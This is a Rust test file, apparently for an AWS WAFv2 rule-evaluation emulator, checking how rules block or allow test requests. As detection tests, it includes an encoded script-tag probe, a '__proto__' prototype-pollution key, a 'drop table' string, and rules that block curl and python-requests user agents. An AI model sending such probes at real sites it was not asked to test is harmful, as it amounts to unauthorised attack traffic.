use std::net::IpAddr;

use serde_json::json;

use super::*;

const ARN: &str =
    "arn:aws:wafv2:us-east-1:123456789012:regional/webacl/acl/0f1e2d3c-0000-4000-8000-000000000000";
const SET_ARN: &str =
    "arn:aws:wafv2:us-east-1:123456789012:regional/ipset/bad/11111111-0000-4000-8000-000000000000";

fn ip_set() -> IpSet {
    IpSet {
        name: "bad".into(),
        id: "11111111-0000-4000-8000-000000000000".into(),
        arn: SET_ARN.into(),
        description: String::new(),
        ip_address_version: "IPV4".into(),
        addresses: vec!["10.9.0.0/16".into(), "192.0.2.7/32".into()],
        lock_token: "t".into(),
        tags: Default::default(),
    }
}

const REGEX_ARN: &str = "arn:aws:wafv2:us-east-1:123456789012:regional/regexpatternset/bots/22222222-0000-4000-8000-000000000000";

fn regex_set() -> RegexPatternSet {
    RegexPatternSet {
        name: "bots".into(),
        id: "22222222-0000-4000-8000-000000000000".into(),
        arn: REGEX_ARN.into(),
        description: String::new(),
        regular_expressions: vec!["^curl/".into(), "python-requests/\\d".into()],
        lock_token: "t".into(),
        tags: Default::default(),
    }
}

const GROUP_ARN: &str = "arn:aws:wafv2:us-east-1:123456789012:regional/rulegroup/admin/33333333-0000-4000-8000-000000000000";

/// A rule group: blocks `/admin` paths with its own custom response, labels `curl` callers,
/// and limits each caller's rate.
fn rule_group() -> RuleGroup {
    RuleGroup {
        name: "admin".into(),
        id: "33333333-0000-4000-8000-000000000000".into(),
        arn: GROUP_ARN.into(),
        description: String::new(),
        capacity: 50,
        rules: vec![
            rule("curl", 0, json!({"ByteMatchStatement": {"SearchString": b64("curl"), "FieldToMatch": {"SingleHeader": {"Name": "user-agent"}},
                "TextTransformations": [{"Priority": 0, "Type": "NONE"}], "PositionalConstraint": "STARTS_WITH"}}), json!({"Count": {}}))
                .as_object().map(|r| { let mut r = r.clone(); r.insert("RuleLabels".into(), json!([{"Name": "tool:curl"}])); Value::Object(r) }).unwrap(),
            rule("admin-paths", 1, json!({"ByteMatchStatement": {"SearchString": b64("/prod/admin"), "FieldToMatch": {"UriPath": {}},
                "TextTransformations": [{"Priority": 0, "Type": "NONE"}], "PositionalConstraint": "STARTS_WITH"}}),
                json!({"Block": {"CustomResponse": {"ResponseCode": 404, "CustomResponseBodyKey": "gone"}}})),
            rule("too-fast", 2, json!({"RateBasedStatement": {"Limit": 10, "AggregateKeyType": "IP"}}), json!({"Block": {}})),
        ],
        visibility_config: json!({"SampledRequestsEnabled": false, "CloudWatchMetricsEnabled": false, "MetricName": "admin"}),
        custom_response_bodies: Some(json!({"gone": {"ContentType": "TEXT_PLAIN", "Content": "nothing here"}})),
        lock_token: "t".into(),
        tags: Default::default(),
    }
}

fn compile(default: Value, rules: Value) -> Result<CompiledAcl, WafError> {
    let set = ip_set();
    let regexes = regex_set();
    let group = rule_group();
    let rules = rules.as_array().cloned().unwrap_or_default();
    let bodies =
        json!({"denied": {"ContentType": "APPLICATION_JSON", "Content": "{\"denied\":true}"}});
    CompiledAcl::compile(
        (ARN, "acl", "123456789012"),
        &default,
        &rules,
        Some(&bodies),
        Sets {
            ip: &[&set],
            regex: &[&regexes],
            rule_groups: &[&group],
        },
    )
}

fn reference(override_action: &str, extra: Value) -> Value {
    let mut statement = json!({"ARN": GROUP_ARN});
    if let (Some(statement), Some(extra)) = (statement.as_object_mut(), extra.as_object()) {
        statement.extend(extra.clone());
    }
    json!({"Name": "group", "Priority": 0, "Statement": {"RuleGroupReferenceStatement": statement},
           "OverrideAction": {override_action: {}}, "VisibilityConfig": {"SampledRequestsEnabled": false,
           "CloudWatchMetricsEnabled": false, "MetricName": "group"}})
}

#[test]
fn rule_groups_run_their_rules_in_their_namespace_under_the_reference_overrides() {
    // The group's label, seen by a web ACL rule after it.
    let labelled = rule(
        "curl-label",
        1,
        json!({"LabelMatchStatement": {"Scope": "LABEL",
        "Key": "awswaf:123456789012:rulegroup:admin:tool:curl"}}),
        json!({"Block": {}}),
    );
    let acl = compile(
        json!({"Allow": {}}),
        json!([reference("None", json!({})), labelled.clone()]),
    )
    .unwrap();
    // A reference costs the group's declared capacity.
    assert_eq!(acl.capacity, 50 + 1);
    match acl.evaluate(
        &request("203.0.113.1", "GET", "/prod/admin/x", "", &[]),
        &mut |_| false,
    ) {
        Verdict::Block(block, rule) => {
            let custom = block.custom.as_ref().unwrap();
            assert_eq!(custom.status, 404);
            assert_eq!(custom.body.as_ref().unwrap().1, "nothing here");
            assert_eq!(rule, Some("admin-paths"));
        }
        Verdict::Allow(_) => panic!("the group's block decides"),
    }
    assert_eq!(
        decide(&acl, &request("203.0.113.1", "GET", "/prod/pets", "", &[])),
        None
    );
    assert_eq!(
        decide(
            &acl,
            &request(
                "203.0.113.1",
                "GET",
                "/prod/pets",
                "",
                &[("user-agent", "curl/8")]
            )
        )
        .as_deref(),
        Some("curl-label")
    );
    // Rate-based rules in a group count under `{group}/{rule}`.
    let mut probed = Vec::new();
    let verdict = acl.evaluate(
        &request("203.0.113.1", "GET", "/prod/pets", "", &[]),
        &mut |probe| {
            probed.push(probe.rule.to_owned());
            true
        },
    );
    assert!(matches!(verdict, Verdict::Block(_, Some("too-fast"))));
    assert_eq!(probed, ["admin/too-fast"]);

    // OverrideAction Count: the group only labels.
    let counted = compile(
        json!({"Allow": {}}),
        json!([reference("Count", json!({})), labelled.clone()]),
    )
    .unwrap();
    assert_eq!(
        decide(
            &counted,
            &request("203.0.113.1", "GET", "/prod/admin", "", &[])
        ),
        None
    );
    assert_eq!(
        decide(
            &counted,
            &request(
                "203.0.113.1",
                "GET",
                "/prod/admin",
                "",
                &[("user-agent", "curl/8")]
            )
        )
        .as_deref(),
        Some("curl-label")
    );
    // A rule's action overridden, and an excluded rule: both only count.
    for extra in [
        json!({"RuleActionOverrides": [{"Name": "admin-paths", "ActionToUse": {"Count": {}}}]}),
        json!({"ExcludedRules": [{"Name": "admin-paths"}]}),
    ] {
        let acl = compile(json!({"Allow": {}}), json!([reference("None", extra)])).unwrap();
        assert_eq!(
            decide(&acl, &request("203.0.113.1", "GET", "/prod/admin", "", &[])),
            None
        );
    }

    // A reference needs OverrideAction, not Action; it cannot be nested; an unknown ARN.
    let mut with_action = reference("None", json!({}));
    with_action["Action"] = json!({"Block": {}});
    assert!(compile(json!({"Allow": {}}), json!([with_action])).is_err());
    let mut without = reference("None", json!({}));
    without.as_object_mut().unwrap().remove("OverrideAction");
    assert!(compile(json!({"Allow": {}}), json!([without])).is_err());
    let nested = rule(
        "n",
        0,
        json!({"NotStatement": {"Statement": {"RuleGroupReferenceStatement": {"ARN": GROUP_ARN}}}}),
        json!({"Block": {}}),
    );
    assert!(compile(json!({"Allow": {}}), json!([nested])).is_err());
    let mut unknown = reference("None", json!({}));
    unknown["Statement"]["RuleGroupReferenceStatement"]["ARN"] = json!("arn:nope");
    assert!(compile(json!({"Allow": {}}), json!([unknown])).is_err());
}

#[test]
fn rule_groups_are_checked_against_their_capacity() {
    let group = rule_group();
    let used = check_rule_group(
        ("admin", "123456789012"),
        50,
        &group.rules,
        group.custom_response_bodies.as_ref(),
        Sets::default(),
    )
    .unwrap();
    assert_eq!(used, 2 + 2 + 2);
    let error = check_rule_group(
        ("admin", "123456789012"),
        5,
        &group.rules,
        group.custom_response_bodies.as_ref(),
        Sets::default(),
    )
    .unwrap_err();
    assert!(
        error.message.contains("more than its capacity of 5"),
        "{error:?}"
    );
    // A rule group cannot reference a rule group.
    let group_ref = [reference("None", json!({}))];
    let g = rule_group();
    let sets = Sets {
        rule_groups: &[&g],
        ..Sets::default()
    };
    assert!(check_rule_group(("outer", "123456789012"), 100, &group_ref, None, sets).is_err());
}

#[test]
fn regex_pattern_sets_match_any_of_their_expressions() {
    let acl = compile(
        json!({"Allow": {}}),
        json!([rule(
            "bots",
            0,
            json!({"RegexPatternSetReferenceStatement": {"ARN": REGEX_ARN,
            "FieldToMatch": {"SingleHeader": {"Name": "user-agent"}},
            "TextTransformations": [{"Priority": 0, "Type": "LOWERCASE"}]}}),
            json!({"Block": {}})
        )]),
    )
    .unwrap();
    // 25 for the set, 10 for the transformation.
    assert_eq!(acl.capacity, 25 + 10);
    for (agent, blocked) in [
        ("curl/8.5.0", true),
        ("Python-Requests/2.31", true),
        ("python-requests/x", false),
        ("Mozilla/5.0 curl/8", false),
    ] {
        let got = decide(
            &acl,
            &request("203.0.113.1", "GET", "/", "", &[("user-agent", agent)]),
        );
        assert_eq!(got.is_some(), blocked, "{agent}");
    }
    // An unknown set, and expressions that are not valid.
    let unknown = compile(
        json!({"Allow": {}}),
        json!([rule(
            "x",
            0,
            json!({"RegexPatternSetReferenceStatement": {"ARN": "arn:nope",
            "FieldToMatch": {"UriPath": {}}, "TextTransformations": [{"Priority": 0, "Type": "NONE"}]}}),
            json!({"Block": {}})
        )]),
    );
    assert_eq!(unknown.unwrap_err().code, "WAFInvalidParameterException");
    assert!(compile_regexes(&["(".into()]).is_err());
    assert!(compile_regexes(&[]).is_err());
    assert!(compile_regexes(&vec!["a".to_owned(); 11]).is_err());
    assert!(compile_regexes(&["a".repeat(513)]).is_err());
    assert!(compile_regexes(&["^a$".into(), "b+".into()]).is_ok());
}

fn rule(name: &str, priority: u64, statement: Value, action: Value) -> Value {
    json!({"Name": name, "Priority": priority, "Statement": statement, "Action": action,
           "VisibilityConfig": {"SampledRequestsEnabled": false, "CloudWatchMetricsEnabled": false, "MetricName": name}})
}

fn b64(text: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(text)
}

fn request<'a>(
    ip: &str,
    method: &'a str,
    path: &'a str,
    query: &'a str,
    headers: &[(&'a str, &'a str)],
) -> Request<'a> {
    Request {
        client_ip: ip.parse::<IpAddr>().unwrap(),
        method,
        path,
        query,
        headers: headers.iter().map(|(n, v)| (*n, v.as_bytes())).collect(),
        body: None,
        json: Default::default(),
    }
}

fn decide(acl: &CompiledAcl, request: &Request<'_>) -> Option<String> {
    match acl.evaluate(request, &mut |_| false) {
        Verdict::Allow(_) => None,
        Verdict::Block(_, rule) => Some(rule.unwrap_or("default").to_owned()),
    }
}

#[test]
fn rules_run_in_priority_order_and_the_first_terminating_one_decides() {
    let acl = compile(
        json!({"Allow": {}}),
        json!([
            rule("admins", 5, json!({"ByteMatchStatement": {"SearchString": b64("/prod/admin"), "FieldToMatch": {"UriPath": {}},
                "TextTransformations": [{"Priority": 0, "Type": "LOWERCASE"}], "PositionalConstraint": "STARTS_WITH"}}), json!({"Block": {}})),
            rule("bad-ips", 1, json!({"IPSetReferenceStatement": {"ARN": SET_ARN}}), json!({"Block": {}})),
            rule("office", 0, json!({"IPSetReferenceStatement": {"ARN": SET_ARN, "IPSetForwardedIPConfig":
                {"HeaderName": "X-Office", "FallbackBehavior": "NO_MATCH", "Position": "FIRST"}}}), json!({"Allow": {}})),
        ]),
    )
    .unwrap();
    assert_eq!(acl.capacity, 2 + 10 + 1 + 1);
    assert_eq!(
        decide(&acl, &request("203.0.113.1", "GET", "/prod/pets", "", &[])),
        None
    );
    assert_eq!(
        decide(&acl, &request("10.9.4.4", "GET", "/prod/pets", "", &[])).as_deref(),
        Some("bad-ips")
    );
    assert_eq!(
        decide(&acl, &request("::ffff:192.0.2.7", "GET", "/", "", &[])).as_deref(),
        Some("bad-ips")
    );
    assert_eq!(
        decide(
            &acl,
            &request("203.0.113.1", "GET", "/PROD/Admin/x", "", &[])
        )
        .as_deref(),
        Some("admins")
    );
    // A forwarded address from the set, checked first, lets the request in.
    assert_eq!(
        decide(
            &acl,
            &request(
                "10.9.4.4",
                "GET",
                "/prod/admin",
                "",
                &[("x-office", "192.0.2.7, 10.0.0.1")]
            )
        ),
        None
    );
}

#[test]
fn statements_combine_and_fields_are_transformed() {
    let acl = compile(
        json!({"Block": {}}),
        json!([
            rule("tagged", 0, json!({"ByteMatchStatement": {"SearchString": b64("beta"), "FieldToMatch": {"SingleHeader": {"Name": "X-Channel"}},
                "TextTransformations": [{"Priority": 0, "Type": "NONE"}], "PositionalConstraint": "EXACTLY"}}),
                json!({"Count": {}})).as_object().cloned().map(|mut r| { r.insert("RuleLabels".into(), json!([{"Name": "beta"}])); Value::Object(r) }).unwrap(),
            rule("let-in", 1, json!({"OrStatement": {"Statements": [
                {"AndStatement": {"Statements": [
                    {"ByteMatchStatement": {"SearchString": b64("get"), "FieldToMatch": {"Method": {}},
                        "TextTransformations": [{"Priority": 0, "Type": "LOWERCASE"}], "PositionalConstraint": "EXACTLY"}},
                    {"NotStatement": {"Statement": {"RegexMatchStatement": {"RegexString": "(?i)<script", "FieldToMatch": {"AllQueryArguments": {}},
                        "TextTransformations": [{"Priority": 1, "Type": "HTML_ENTITY_DECODE"}, {"Priority": 0, "Type": "URL_DECODE"}]}}}},
                    {"SizeConstraintStatement": {"FieldToMatch": {"QueryString": {}}, "ComparisonOperator": "LE", "Size": 64,
                        "TextTransformations": [{"Priority": 0, "Type": "NONE"}]}}]}},
                {"LabelMatchStatement": {"Scope": "LABEL", "Key": "beta"}}]}}), json!({"Allow": {}})),
        ]),
    )
    .unwrap();
    assert_eq!(
        decide(&acl, &request("1.2.3.4", "GET", "/p", "q=hello", &[])),
        None
    );
    assert_eq!(
        decide(&acl, &request("1.2.3.4", "POST", "/p", "", &[])).as_deref(),
        Some("default")
    );
    // <script, percent-encoded then as an entity, is found after decoding.
    assert_eq!(
        decide(
            &acl,
            &request("1.2.3.4", "GET", "/p", "q=%26lt%3BSCRIPT%3E", &[])
        )
        .as_deref(),
        Some("default")
    );
    assert_eq!(
        decide(&acl, &request("1.2.3.4", "GET", "/p", &"x".repeat(65), &[])).as_deref(),
        Some("default")
    );
    // A POST from the beta channel: counted, labelled, and let in by the label.
    assert_eq!(
        decide(
            &acl,
            &request("1.2.3.4", "POST", "/p", "", &[("X-Channel", "beta")])
        ),
        None
    );
}

#[test]
fn rate_based_rules_ask_the_counter_per_key() {
    let acl = compile(
        json!({"Allow": {}}),
        json!([rule("flood", 0, json!({"RateBasedStatement": {"Limit": 10, "AggregateKeyType": "IP", "EvaluationWindowSec": 60,
            "ScopeDownStatement": {"ByteMatchStatement": {"SearchString": b64("/login"), "FieldToMatch": {"UriPath": {}},
                "TextTransformations": [{"Priority": 0, "Type": "NONE"}], "PositionalConstraint": "ENDS_WITH"}}}}),
            json!({"Block": {"CustomResponse": {"ResponseCode": 429, "CustomResponseBodyKey": "denied",
                "ResponseHeaders": [{"Name": "Retry-After", "Value": "60"}]}}}))]),
    )
    .unwrap();
    let mut asked = Vec::new();
    let mut counter = |probe: RateProbe<'_>| {
        asked.push((
            probe.rule.to_owned(),
            probe.key.clone(),
            probe.limit,
            probe.window_seconds,
        ));
        asked.len() > 2
    };
    let login = request("198.51.100.9", "POST", "/prod/login", "", &[]);
    assert_eq!(
        acl.evaluate(&login, &mut counter),
        Verdict::Allow(Vec::new())
    );
    assert_eq!(
        acl.evaluate(
            &request("198.51.100.9", "GET", "/prod/pets", "", &[]),
            &mut counter
        ),
        Verdict::Allow(Vec::new())
    );
    assert_eq!(
        acl.evaluate(&login, &mut counter),
        Verdict::Allow(Vec::new())
    );
    let Verdict::Block(block, Some("flood")) = acl.evaluate(&login, &mut counter) else {
        panic!()
    };
    let custom = block.custom.as_ref().unwrap();
    assert_eq!(custom.status, 429);
    assert_eq!(
        custom.headers,
        vec![("Retry-After".to_owned(), "60".to_owned())]
    );
    assert_eq!(
        custom.body,
        Some((
            "application/json".to_owned(),
            "{\"denied\":true}".to_owned()
        ))
    );
    assert_eq!(
        asked.len(),
        3,
        "only requests in scope are counted: {asked:?}"
    );
    assert_eq!(
        asked[0],
        ("flood".to_owned(), "198.51.100.9".to_owned(), 10, 60)
    );
}

#[test]
fn what_cannot_be_evaluated_or_is_malformed_is_refused() {
    let refused = |default: Value, rules: Value| compile(default, rules).unwrap_err();
    let visibility = json!({"SampledRequestsEnabled": false, "CloudWatchMetricsEnabled": false, "MetricName": "m"});
    let e = refused(
        json!({"Allow": {}}),
        json!([rule(
            "m",
            0,
            json!({"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesAnonymousIpList"}}),
            json!({"Block": {}})
        )]),
    );
    assert_eq!(e.code, "WAFInvalidParameterException");
    assert!(
        e.message
            .contains("AWSManagedRulesAnonymousIpList is not supported"),
        "{e}"
    );
    let e = refused(
        json!({"Allow": {}}),
        json!([rule(
            "g",
            0,
            json!({"GeoMatchStatement": {"CountryCodes": ["FR"]}}),
            json!({"Block": {}})
        )]),
    );
    assert!(e.message.contains("GeoMatchStatement"), "{e}");
    let e = refused(
        json!({"Allow": {}}),
        json!([rule(
            "x",
            0,
            json!({"IPSetReferenceStatement": {"ARN": "arn:aws:wafv2:us-east-1:123456789012:regional/ipset/gone/x"}}),
            json!({"Block": {}})
        )]),
    );
    assert_eq!(
        e.message,
        "Error reason: A reference in your rule statement is not valid., field: RULE, parameter: Statement"
    );
    let e = refused(
        json!({"Allow": {}}),
        json!([rule(
            "o",
            0,
            json!({"OrStatement": {"Statements": [{"IPSetReferenceStatement": {"ARN": SET_ARN}}]}}),
            json!({"Block": {}})
        )]),
    );
    assert!(
        e.message
            .starts_with("Error reason: You haven't met a minimum requirement"),
        "{e}"
    );
    let e = refused(json!({"Allow": {}, "Block": {}}), json!([]));
    assert!(e.message.contains("multiple values"), "{e}");
    let e = refused(
        json!({"Allow": {}}),
        json!([{"Name": "n", "Priority": 0, "Statement": {"IPSetReferenceStatement": {"ARN": SET_ARN}}, "Action": {"Block": {}}}]),
    );
    assert_eq!(e.code, "ValidationException");
    assert!(e.message.contains("visibilityConfig"), "{e}");
    let e = refused(
        json!({"Allow": {}}),
        json!([
        {"Name": "a", "Priority": 0, "Statement": {"IPSetReferenceStatement": {"ARN": SET_ARN}}, "Action": {"Block": {}}, "VisibilityConfig": visibility},
        {"Name": "b", "Priority": 0, "Statement": {"IPSetReferenceStatement": {"ARN": SET_ARN}}, "Action": {"Block": {}}, "VisibilityConfig": visibility}]),
    );
    assert!(e.message.contains("distinct"), "{e}");
    let e = refused(
        json!({"Allow": {}}),
        json!([rule(
            "r",
            0,
            json!({"NotStatement": {"Statement": {"RateBasedStatement": {"Limit": 100, "AggregateKeyType": "IP"}}}}),
            json!({"Block": {}})
        )]),
    );
    assert!(e.message.contains("cannot be nested"), "{e}");
    let e = refused(
        json!({"Allow": {}}),
        json!([rule(
            "r",
            0,
            json!({"RateBasedStatement": {"Limit": 5, "AggregateKeyType": "IP"}}),
            json!({"Block": {}})
        )]),
    );
    assert!(e.message.contains("between 10 and 2000000000"), "{e}");
}

#[test]
fn ip_set_addresses_are_cidr_ranges_of_the_sets_family() {
    assert!(check_addresses("IPV4", &["10.0.0.0/8".into(), "192.0.2.1/32".into()]).is_ok());
    assert!(check_addresses("IPV6", &["2001:db8::/32".into()]).is_ok());
    for (version, bad) in [
        ("IPV4", "0.0.0.0/0"),
        ("IPV4", "195.178.188.66/29"),
        ("IPV4", "10.0.0.1"),
        ("IPV4", "2001:db8::/32"),
        ("IPV6", "10.0.0.0/8"),
        ("IPV4", ""),
    ] {
        let e = check_addresses(version, &[bad.to_owned()]).unwrap_err();
        assert_eq!(
            e.message,
            format!(
                "Error reason: The parameter contains formatting that is not valid., field: IP_ADDRESS, parameter: {bad}"
            )
        );
    }
}

#[test]
fn transformations_decode_as_waf_does() {
    assert_eq!(
        transform(b"a%2Fb+c%zz", &[Transform::UrlDecode]),
        b"a/b c%zz"
    );
    assert_eq!(
        transform(b"&lt;x&#62;&#x3c;&bogus;", &[Transform::HtmlEntityDecode]),
        b"<x><&bogus;"
    );
    assert_eq!(
        transform(b"a \t\n b", &[Transform::CompressWhiteSpace]),
        b"a b"
    );
    assert_eq!(
        transform(b"/a/./b/../c//", &[Transform::NormalizePath]),
        b"/a/c/"
    );
    assert_eq!(transform(b"aGk=", &[Transform::Base64Decode]), b"hi");
    assert_eq!(transform(b"6869", &[Transform::HexDecode]), b"hi");
    assert_eq!(transform(b"a\0b", &[Transform::ReplaceNulls]), b"a b");
    assert!(positioned(b"drop table", b"table", Position::ContainsWord));
    assert!(!positioned(b"droptables", b"table", Position::ContainsWord));
}

#[test]
fn a_forwarded_address_header_decides_only_when_present() {
    let acl = compile(
        json!({"Allow": {}}),
        json!([
            rule("by-header", 0, json!({"IPSetReferenceStatement": {"ARN": SET_ARN, "IPSetForwardedIPConfig":
                {"HeaderName": "X-Forwarded-For", "FallbackBehavior": "MATCH", "Position": "LAST"}}}), json!({"Block": {}})),
            rule("flood", 1, json!({"RateBasedStatement": {"Limit": 10, "AggregateKeyType": "FORWARDED_IP",
                "ForwardedIPConfig": {"HeaderName": "X-Client", "FallbackBehavior": "NO_MATCH"}}}), json!({"Block": {}})),
        ]),
    )
    .unwrap();
    let mut keys = Vec::new();
    let mut counter = |probe: RateProbe<'_>| {
        keys.push(probe.key);
        false
    };
    // No header: neither rule applies, even from a listed address.
    assert_eq!(
        acl.evaluate(&request("10.9.0.1", "GET", "/", "", &[]), &mut counter),
        Verdict::Allow(Vec::new())
    );
    let listed = request(
        "1.1.1.1",
        "GET",
        "/",
        "",
        &[("x-forwarded-for", "8.8.8.8, 10.9.0.1")],
    );
    assert!(matches!(
        acl.evaluate(&listed, &mut counter),
        Verdict::Block(_, Some("by-header"))
    ));
    // A header that does not read matches (MATCH).
    let garbled = request(
        "1.1.1.1",
        "GET",
        "/",
        "",
        &[("x-forwarded-for", "not-an-address")],
    );
    assert!(matches!(
        acl.evaluate(&garbled, &mut counter),
        Verdict::Block(_, Some("by-header"))
    ));
    // The rate rule counts by the first forwarded address; a garbled one is not counted.
    let counted = request(
        "1.1.1.1",
        "GET",
        "/",
        "",
        &[("x-client", "203.0.113.5, 10.0.0.1")],
    );
    assert_eq!(
        acl.evaluate(&counted, &mut counter),
        Verdict::Allow(Vec::new())
    );
    let garbled = request("1.1.1.1", "GET", "/", "", &[("x-client", "??")]);
    assert_eq!(
        acl.evaluate(&garbled, &mut counter),
        Verdict::Allow(Vec::new())
    );
    assert_eq!(keys, ["203.0.113.5"]);
}

fn byte_match(search: &str, field: Value, position: &str) -> Value {
    json!({"ByteMatchStatement": {"SearchString": b64(search), "FieldToMatch": field,
        "TextTransformations": [{"Priority": 0, "Type": "LOWERCASE"}], "PositionalConstraint": position}})
}

fn with_body<'a>(mut request: Request<'a>, body: &'a str) -> Request<'a> {
    request.body = Some(body.as_bytes());
    request
}

#[test]
fn headers_and_cookies_are_inspected_by_name_and_scope() {
    let acl = compile(
        json!({"Allow": {}}),
        json!([
            // Any header value but the user agent's containing "evil".
            rule("header-values", 0, byte_match("evil", json!({"Headers": {
                "MatchPattern": {"ExcludedHeaders": ["User-Agent"]}, "MatchScope": "VALUE", "OversizeHandling": "CONTINUE"}}), "CONTAINS"),
                json!({"Block": {}})),
            // A header named x-debug (keys only).
            rule("header-keys", 1, byte_match("x-debug", json!({"Headers": {
                "MatchPattern": {"All": {}}, "MatchScope": "KEY", "OversizeHandling": "MATCH"}}), "EXACTLY"),
                json!({"Block": {}})),
            // The `session` cookie's value, or its name, being "admin".
            rule("cookie", 2, byte_match("admin", json!({"Cookies": {
                "MatchPattern": {"IncludedCookies": ["session"]}, "MatchScope": "ALL", "OversizeHandling": "NO_MATCH"}}), "EXACTLY"),
                json!({"Block": {}})),
        ]),
    )
    .unwrap();
    let plain = |headers: &[(&'static str, &'static str)]| {
        decide(&acl, &request("1.2.3.4", "GET", "/", "", headers))
    };
    assert_eq!(
        plain(&[("User-Agent", "evil-bot"), ("Accept", "*/*")]),
        None
    );
    assert_eq!(
        plain(&[("Accept", "text/EVIL")]).as_deref(),
        Some("header-values")
    );
    assert_eq!(plain(&[("X-Debug", "1")]).as_deref(), Some("header-keys"));
    assert_eq!(plain(&[("X-Debugger", "1")]), None);
    assert_eq!(
        plain(&[("Cookie", "theme=dark; session=ADMIN")]).as_deref(),
        Some("cookie")
    );
    // Another cookie with that value, or the name in another case, is not the one included.
    assert_eq!(plain(&[("Cookie", "theme=admin; Session=admin")]), None);
}

#[test]
fn json_bodies_are_inspected_by_pointer_key_and_value() {
    let acl = compile(
        json!({"Allow": {}}),
        json!([
            rule("role", 0, byte_match("root", json!({"JsonBody": {
                "MatchPattern": {"IncludedPaths": ["/user/role"]}, "MatchScope": "VALUE"}}), "EXACTLY"),
                json!({"Block": {}})),
            rule("keys", 1, byte_match("__proto__", json!({"JsonBody": {
                "MatchPattern": {"All": {}}, "MatchScope": "KEY", "InvalidFallbackBehavior": "NO_MATCH"}}), "EXACTLY"),
                json!({"Block": {}})),
            rule("numbers", 2, byte_match("31337", json!({"JsonBody": {
                "MatchPattern": {"All": {}}, "MatchScope": "VALUE", "InvalidFallbackBehavior": "EVALUATE_AS_STRING"}}), "CONTAINS"),
                json!({"Block": {}})),
        ]),
    )
    .unwrap();
    let post = |body: &'static str| {
        decide(
            &acl,
            &with_body(request("1.2.3.4", "POST", "/", "", &[]), body),
        )
    };
    assert_eq!(
        post(r#"{"user": {"role": "ROOT"}}"#).as_deref(),
        Some("role")
    );
    // The same value elsewhere is not at the pointer.
    assert_eq!(post(r#"{"user": {"name": "root"}, "role": "root"}"#), None);
    assert_eq!(
        post(r#"{"a": [{"__proto__": {"x": 1}}]}"#).as_deref(),
        Some("keys")
    );
    assert_eq!(post(r#"{"id": 31337}"#).as_deref(), Some("numbers"));
    // A JSON body doubles each statement's base cost, not its transformations':
    // (2 × 2 + 10) + (2 × 2 + 10) + (2 × 10 + 10).
    assert_eq!(acl.capacity, 58);
    // Not JSON: the third rule reads it as text; the first two do not match it.
    assert_eq!(post("role=root&id=31337").as_deref(), Some("numbers"));
    assert_eq!(post("role=root"), None);
}

#[test]
fn malformed_header_cookie_and_json_fields_are_refused() {
    let refused = |field: Value| {
        compile(
            json!({"Allow": {}}),
            json!([rule(
                "f",
                0,
                byte_match("x", field, "EXACTLY"),
                json!({"Block": {}})
            )]),
        )
        .unwrap_err()
    };
    let e = refused(json!({"Headers": {"MatchPattern": {"All": {}}, "MatchScope": "ALL"}}));
    assert!(e.message.contains("headers.oversizeHandling"), "{e}");
    let e = refused(
        json!({"Cookies": {"MatchPattern": {"All": {}}, "MatchScope": "BOTH", "OversizeHandling": "CONTINUE"}}),
    );
    assert!(e.message.contains("[ALL, KEY, VALUE]"), "{e}");
    let e = refused(
        json!({"JsonBody": {"MatchPattern": {"IncludedPaths": ["user"]}, "MatchScope": "ALL"}}),
    );
    assert!(e.message.contains("JSON pointer"), "{e}");
    let e = refused(
        json!({"JsonBody": {"MatchPattern": {"All": {}}, "MatchScope": "ALL", "InvalidFallbackBehavior": "GUESS"}}),
    );
    assert!(e.message.contains("EVALUATE_AS_STRING"), "{e}");
    let e = refused(json!({"HeaderOrder": {}}));
    assert!(e.message.contains("headerOrder.oversizeHandling"), "{e}");
    let e = refused(json!({"UriFragment": {"FallbackBehavior": "MAYBE"}}));
    assert!(e.message.contains("[MATCH, NO_MATCH]"), "{e}");
    let e = refused(json!({"JA3Fingerprint": {"FallbackBehavior": "MATCH"}}));
    assert!(e.message.contains("not supported"), "{e}");
}

#[test]
fn custom_keys_count_each_combination_and_skip_requests_without_one() {
    let acl = compile(
        json!({"Allow": {}}),
        json!([
            rule("tag", 0, byte_match("/prod", json!({"UriPath": {}}), "STARTS_WITH"), json!({"Count": {}}))
                .as_object().cloned().map(|mut r| { r.insert("RuleLabels".into(), json!([{"Name": "tier:gold"}])); Value::Object(r) }).unwrap(),
            rule("per-key", 1, json!({"RateBasedStatement": {"Limit": 10, "AggregateKeyType": "CUSTOM_KEYS",
                "CustomKeys": [
                    {"Header": {"Name": "X-Api-Key", "TextTransformations": [{"Priority": 0, "Type": "LOWERCASE"}]}},
                    {"HTTPMethod": {}},
                    {"Cookie": {"Name": "session", "TextTransformations": [{"Priority": 0, "Type": "NONE"}]}},
                    {"LabelNamespace": {"Namespace": "tier:"}}]}}),
                json!({"Block": {}})),
        ]),
    )
    .unwrap();
    let mut keys = Vec::new();
    let mut counter = |probe: RateProbe<'_>| {
        keys.push(probe.key.clone());
        false
    };
    let with = |key: &'static str, cookie: &'static str| {
        request(
            "192.0.2.1",
            "GET",
            "/prod/x",
            "",
            &[("x-api-key", key), ("Cookie", cookie)],
        )
    };
    acl.evaluate(&with("ABC", "session=s1"), &mut counter);
    acl.evaluate(&with("abc", "theme=x; session=s1"), &mut counter);
    acl.evaluate(&with("abc", "session=s2"), &mut counter);
    // Without the cookie, the request is not counted.
    acl.evaluate(&with("abc", "theme=x"), &mut counter);
    assert_eq!(keys.len(), 3, "{keys:?}");
    assert_eq!(keys[0], keys[1], "the same key after the transformation");
    assert_ne!(keys[0], keys[2]);
    assert!(keys[0].contains("abc") && keys[0].contains("GET") && keys[0].contains("tier:gold"));
    // Long values are counted under a digest.
    let long = "k".repeat(500);
    let request = request(
        "192.0.2.1",
        "GET",
        "/prod/x",
        "",
        &[("x-api-key", long.as_str()), ("Cookie", "session=s1")],
    );
    let mut seen = String::new();
    acl.evaluate(&request, &mut |probe| {
        seen = probe.key;
        false
    });
    assert_eq!(seen.len(), 64, "{seen}");

    let refused = compile(
        json!({"Allow": {}}),
        json!([rule(
            "r",
            0,
            json!({"RateBasedStatement": {"Limit": 10, "AggregateKeyType": "CUSTOM_KEYS",
            "CustomKeys": [{"ForwardedIP": {}}]}}),
            json!({"Block": {}})
        )]),
    )
    .unwrap_err();
    assert!(refused.message.contains("forwardedIPConfig"), "{refused}");
    let refused = compile(
        json!({"Allow": {}}),
        json!([rule(
            "r",
            0,
            json!({"RateBasedStatement": {"Limit": 10, "AggregateKeyType": "CUSTOM_KEYS",
            "CustomKeys": []}}),
            json!({"Block": {}})
        )]),
    )
    .unwrap_err();
    assert!(refused.message.contains("between 1 and 5"), "{refused}");
}

#[test]
